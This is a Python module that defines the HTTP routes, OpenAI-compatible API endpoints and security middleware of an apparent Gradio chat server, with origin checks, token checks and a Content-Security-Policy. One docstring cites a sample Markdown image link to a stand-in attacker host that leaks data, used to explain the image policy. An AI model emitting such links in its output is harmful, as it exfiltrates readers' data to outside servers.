"""Every HTTP route of the app besides the page itself, in one place.

- Plain routes (/healthz, /s/<token>, /export/<id>/<kind>, /doc/<id>, POST /signout) and the page's
  security headers. They are given to Gradio's own FastAPI app (launch's app_kwargs), so they sit
  outside Gradio's login: a health check needs no password, and a share link is meant for anyone
  holding it. Everything else stays behind the login.
- The OpenAI-compatible API (/v1/models[/{id}], /v1/chat/completions, /v1/responses[/{id}]) and /metrics,
  with OpenAI's error shape on every /v1 status (ApiErrors). The logic is
  backend/api/service.py; here: status codes, OpenAI's error shape, server-sent events, and a thread
  per answer (the worker's events are a blocking generator; a thread each keeps many streams from
  queueing behind a small thread pool). A client that goes away stops its answer, as Stop does.
"""

from __future__ import annotations

import asyncio
import json
import logging
import threading

from fastapi import Request
from fastapi.responses import HTMLResponse, JSONResponse, PlainTextResponse, Response, StreamingResponse
from fastapi.routing import APIRoute

from backend.harmony.limits import unwritable
from backend.services.conversations import Sharing
from backend.tools.browser import page_lines
from core.errors import AuthError, BusyError, ChatError, GenerationError, InputError, LimitError, NotFoundError
from ui.identity import session_cookies, session_token
from ui.shared_page import HEADERS, render_document, render_gone, render_shared

log = logging.getLogger(__name__)
STATUS = [(AuthError, 401, "authentication_error"), (NotFoundError, 404, "not_found_error"),
          (LimitError, 429, "rate_limit_error"), (BusyError, 429, "server_busy"),
          (InputError, 400, "invalid_request_error"), (GenerationError, 503, "server_error")]
BUSY_RETRY_AFTER_S = 2
DISCONNECT_POLL_S = 0.5  # how often a non-streaming answer asks whether its client is still there
_END = object()


def error_response(exc: ChatError) -> JSONResponse:
    status, kind = next(((s, k) for cls, s, k in STATUS if isinstance(exc, cls)), (500, "server_error"))
    headers = {}
    if isinstance(exc, LimitError):
        headers["Retry-After"] = str(max(1, round(exc.retry_after_s)))
    elif isinstance(exc, BusyError):
        headers["Retry-After"] = str(BUSY_RETRY_AFTER_S)
    code = getattr(exc, "code", kind)  # a finer code where OpenAI has one (context_length_exceeded)
    return JSONResponse({"error": {"message": exc.user_message, "type": kind, "code": code}}, status_code=status,
                        headers=headers)


async def _in_thread(fn, *args, orphan=None):
    """Run a blocking call on a thread of its own; its result or its exception, awaited. If the
    request is cancelled meanwhile (the client left), `orphan` gets the result nobody will use."""
    loop = asyncio.get_running_loop()
    future = loop.create_future()

    def deliver(result=None, exc=None):
        if future.cancelled():
            if orphan is not None and exc is None:
                orphan(result)
        elif exc is not None:
            future.set_exception(exc)
        else:
            future.set_result(result)

    def run():
        try:
            result = fn(*args)
        except BaseException as exc:  # noqa: BLE001 - handed to the awaiting request
            loop.call_soon_threadsafe(deliver, None, exc)
        else:
            loop.call_soon_threadsafe(deliver, result)

    threading.Thread(target=run, name="api-request", daemon=True).start()
    return await future


def _sse(data: dict) -> str:
    """One server-sent event; a Responses event names its type on an `event:` line too, as OpenAI's do."""
    kind = data.get("type") if isinstance(data.get("type"), str) else None
    return (f"event: {kind}\n" if kind else "") + f"data: {json.dumps(data)}\n\n"


def _pump(chunks) -> asyncio.Queue:
    """Start reading the answer's chunks at once, on a thread of its own, as server-sent events.
    Started before the response is (not when the body is first read), so the worker slot is used
    and freed even if the client leaves before the first byte."""
    loop, queue = asyncio.get_running_loop(), asyncio.Queue()

    def pump():
        try:
            for chunk in chunks:
                loop.call_soon_threadsafe(queue.put_nowait, _sse(chunk))
        except Exception as exc:  # noqa: BLE001 - a bug: the client gets an error chunk, the server a log line
            log.exception("an API answer failed")
            error = {"error": {"message": f"The answer failed on the server ({type(exc).__name__}).",
                               "type": "server_error"}}
            loop.call_soon_threadsafe(queue.put_nowait, _sse(error))
        finally:
            loop.call_soon_threadsafe(queue.put_nowait, _END)

    threading.Thread(target=pump, name="api-stream", daemon=True).start()
    return queue


async def _events(run, queue: asyncio.Queue, done: str | None = "data: [DONE]\n\n"):
    try:
        while (item := await queue.get()) is not _END:
            yield item
        if done:
            yield done
    finally:
        run.cancel()  # the client went away (or the answer ended: then this does nothing)


def _streaming(run, chunks, done: str | None = "data: [DONE]\n\n") -> StreamingResponse:
    return StreamingResponse(_events(run, _pump(chunks), done), media_type="text/event-stream",
                             headers={"Cache-Control": "no-store", "X-Accel-Buffering": "no"})


def api_error(status: int, message: str, kind: str) -> JSONResponse:
    return JSONResponse({"error": {"message": message, "type": kind, "code": kind, "param": None}},
                        status_code=status)


class ApiErrors:
    """OpenAI's error shape on every /v1 status, also the ones no route of ours wrote: an unknown path
    (404), a wrong method (405), a bug (500). A 404/405 is held until its (small) body shows whose it
    is: ours already say {"error": ...}; the framework's {"detail": ...} is replaced."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http" or not scope["path"].startswith("/v1/"):
            return await self.app(scope, receive, send)
        started, held, body = False, None, b""

        async def watch(message):
            nonlocal started, held, body
            if message["type"] == "http.response.start":
                started = True
                if message["status"] in (404, 405):
                    held = message
                    return
            elif held is not None:
                body += message.get("body", b"")
                if message.get("more_body"):
                    return
                if _openai_shaped(body):
                    await send(held)
                    return await send({"type": "http.response.body", "body": body})
                return await _send_error(send, held["status"], scope)
            await send(message)

        try:
            await self.app(scope, receive, watch)
        except Exception:
            log.exception("an API request failed")
            if started:
                raise
            await _send_error(send, 500, scope)


def _openai_shaped(body: bytes) -> bool:
    try:
        data = json.loads(body or b"null")
    except ValueError:
        return False
    return isinstance(data, dict) and "error" in data


async def _send_error(send, status: int, scope) -> None:
    message = {404: f"There is no {scope['path']} here: see /v1/models, /v1/chat/completions and /v1/responses.",
               405: f"{scope['method']} is not allowed on {scope['path']}.",
               500: "The server failed on this request; the log says why."}[status]
    kind = {404: "not_found_error", 405: "invalid_request_error", 500: "server_error"}[status]
    await api_error(status, message, kind)({"type": "http"}, None, send)


async def _whole(run, request: Request) -> Response:
    """The whole answer at once. A client that hangs up meanwhile stops it, as with streaming: nothing
    else tells a waiting handler, so the connection is asked now and then."""
    answer = asyncio.ensure_future(_in_thread(run.response))
    try:
        while not (await asyncio.wait({answer}, timeout=DISCONNECT_POLL_S))[0]:
            if await request.is_disconnected():
                run.cancel()  # its slot goes to someone else now; the answer is saved as stopped
                break
        return JSONResponse(await answer)
    except ChatError as exc:
        return error_response(exc)
    except asyncio.CancelledError:
        run.cancel()  # the server cancelled the request before the answer was whole
        raise


async def _body(request: Request):
    """The JSON body. Only `application/json`: a browser page elsewhere can send a "simple" cross-site POST
    (text/plain, no preflight) to a keyless local server, but never this type without the server's consent."""
    kind = request.headers.get("content-type", "").split(";")[0].strip().lower()
    if kind != "application/json":
        raise InputError(f"Send the request body as JSON (Content-Type: application/json), not {kind or 'none'!r}.")
    body = await request.body()  # capped by ui/guards.BodyLimit
    try:
        return await _in_thread(_valid_json, body)  # parsing megabytes must not hold the event loop
    except RecursionError:
        raise InputError("The request body's JSON is nested too deeply.") from None
    except ValueError:
        raise InputError("The request body is not valid JSON.") from None


def _valid_json(body: bytes):
    """The parsed body, all of whose text is writable Unicode (harmony's renderer cannot take a lone surrogate)."""
    data = json.loads(body)
    bad = unwritable(data)
    if bad is not None:
        raise InputError(f"The request holds text that is not valid Unicode (a lone surrogate, in {bad!r}); "
                         "send UTF-8 text.")
    return data


def _check_origin(request: Request, keyless: bool) -> None:
    """Without keys (the one local user) a web page elsewhere must not drive the API through the visitor's
    browser: a request that a browser marks as coming from another origin is refused."""
    origin = request.headers.get("origin")
    if not keyless or origin is None:
        return
    host = request.headers.get("host", "")
    if origin == "null" or origin.split("://", 1)[-1].rstrip("/").lower() != host.lower():
        raise AuthError(f"This server has no API keys, so it takes no requests from web pages of other sites "
                        f"(Origin {origin}). Call it from a program, or make users and keys.")


def api_routes(api, metrics=None, metrics_token: str = "") -> list[APIRoute]:
    def owned(fn):
        """A read of the key owner's data: the owner first (401), then `fn(owner, **path)`."""
        async def route(request: Request) -> Response:
            try:
                owner = await _in_thread(api.owner, request.headers.get("authorization"))
                return JSONResponse(await _in_thread(lambda: fn(owner, **request.path_params)))
            except ChatError as exc:
                return error_response(exc)
        return route

    def answering(start, stream, whole, done):
        """A request that starts an answer: checked and submitted, then streamed or returned whole."""
        async def route(request: Request) -> Response:
            authorization, owner = request.headers.get("authorization"), None
            try:
                owner = await _in_thread(api.owner, authorization)
                _check_origin(request, keyless=owner == api.keyless_owner)
                body = await _body(request)
                run = await _in_thread(start, owner, body, api.shown_key(authorization),
                                       orphan=lambda run: run.discard())
            except ChatError as exc:
                response = error_response(exc)
                await _in_thread(api.refused, owner, request.url.path, response.status_code, exc.user_message,
                                 api.shown_key(authorization))
                return response
            if run.call.stream:
                return _streaming(run, stream(run), done)
            return await whole(run, request)
        return route

    routes = [
        APIRoute("/v1/models", owned(lambda owner: api.models()), methods=["GET"], include_in_schema=False),
        APIRoute("/v1/models/{model_id:path}", owned(lambda owner, model_id: api.model_info(model_id)),
                 methods=["GET"], include_in_schema=False),
        APIRoute("/v1/chat/completions", answering(api.start, lambda run: run.chunks(), _whole, "data: [DONE]\n\n"),
                 methods=["POST"], include_in_schema=False),
        APIRoute("/v1/responses", answering(api.start_response, lambda run: run.events(), _whole, None),
                 methods=["POST"], include_in_schema=False),
        APIRoute("/v1/responses/{response_id}", owned(api.retrieve), methods=["GET"], include_in_schema=False),
        APIRoute("/v1/responses/{response_id}", owned(api.delete_response), methods=["DELETE"],
                 include_in_schema=False)]
    if metrics is not None and metrics_token:
        routes.append(APIRoute("/metrics", metrics_route(metrics, metrics_token), methods=["GET"],
                               include_in_schema=False))
    return routes


def metrics_route(metrics, token: str):
    import hmac  # noqa: PLC0415

    def serve(request: Request) -> Response:
        scheme, _, given = request.headers.get("authorization", "").partition(" ")
        # Only the Bearer scheme carries the token ("Basic <token>" is some other credential).
        if scheme.lower() != "bearer" or not hmac.compare_digest(given.strip().encode(), token.encode()):
            return Response("Send the metrics token: Authorization: Bearer <token>.", status_code=401)
        from backend.observability.metrics import CONTENT_TYPE  # noqa: PLC0415
        return Response(metrics.exposition(), media_type=CONTENT_TYPE)

    return serve


# -- plain routes ------------------------------------------------------------------------------------


def http_routes(shares: Sharing, host, conversations=None, identity=None, password_login: bool = False,
                documents=None) -> list[APIRoute]:
    def healthz() -> JSONResponse:
        """200 while the server runs (model loading, restarting, degraded or ready); 503 once the model failed.
        `model` is "restarting" while a model process that died is started again (`restarts` counts those),
        "degraded" while the engine fails requests (one failed lately, none served since)."""
        s = host.status()
        model = "restarting" if s.state == "loading" and s.restarts else "degraded" if s.degraded else s.state
        return JSONResponse({"status": "ok" if s.state != "failed" else "failed", "model": model,
                             "restarts": s.restarts}, status_code=503 if s.state == "failed" else 200)

    def shared(token: str) -> HTMLResponse:
        try:
            page = render_shared(shares.open(token), copy_href=f"../?copy={token}")
        except NotFoundError:
            return HTMLResponse(render_gone(), status_code=404, headers=HEADERS)
        return HTMLResponse(page, headers=HEADERS)

    def signout(request: Request) -> JSONResponse:
        """End this browser's sign-in session only (POST: a link on another site cannot do it)."""
        getattr(request.app, "tokens", {}).pop(session_token(request), None)
        response = JSONResponse({"signed_out": True})
        for name in session_cookies(request.app):
            response.delete_cookie(name, path="/")
        return response

    def export(conversation_id: str, kind: str, request: Request) -> Response:
        """A conversation as a download, for its owner only; built on request, never stored."""
        owner = identity.http_owner(request, getattr(request.app, "tokens", {}) if password_login else None)
        if owner is None:
            return PlainTextResponse("Sign in to export your conversations.", status_code=401)
        try:
            name, body = conversations.export(owner, conversation_id, kind)
        except (NotFoundError, InputError) as exc:
            return PlainTextResponse(exc.user_message, status_code=404)
        media = "application/json" if kind == "json" else "text/markdown"
        return Response(body, media_type=f"{media}; charset=utf-8", headers={
            "Content-Disposition": f'attachment; filename="{name}"', "Cache-Control": "no-store",
            "X-Content-Type-Options": "nosniff"})

    def document(doc_id: int, request: Request) -> Response:
        """A document the browser tool cited, with numbered lines (#L12 jumps to line 12). Behind the
        sign-in like the app; no script can run in it."""
        if identity is not None and identity.http_owner(
                request, getattr(request.app, "tokens", {}) if password_login else None) is None:
            return PlainTextResponse("Sign in to read the documents.", status_code=401)
        doc = documents.get(doc_id) if documents is not None else None
        if doc is None:
            return PlainTextResponse("There is no such document.", status_code=404)
        return HTMLResponse(render_document(doc.title, doc.source, page_lines(doc.text)), headers=HEADERS)

    return [APIRoute("/doc/{doc_id}", document, methods=["GET"], include_in_schema=False),
            APIRoute("/export/{conversation_id}/{kind}", export, methods=["GET"], include_in_schema=False),
            APIRoute("/signout", signout, methods=["POST"], include_in_schema=False),
            APIRoute("/healthz", healthz, methods=["GET"], include_in_schema=False),
            APIRoute("/s/{token}", shared, methods=["GET"], include_in_schema=False)]


APP_CSP = "img-src 'self' data: blob:"  # messages may hold Markdown images: none load from other sites


class PageSecurityHeaders:
    """Adds a Content-Security-Policy to the app's HTML pages (ASGI middleware): an image in a message
    (`![x](https://evil.example/t.png?leak=1)`, written by a user, a model or a shared chat) is
    never fetched by the reader's browser. Pages with their own policy (share links) keep theirs."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope.get("type") != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                headers = list(message.get("headers") or [])
                names = {k.lower() for k, _ in headers}
                html = any(k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in headers)
                if html and b"content-security-policy" not in names:
                    headers.append((b"content-security-policy", APP_CSP.encode()))
                    message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_policy)
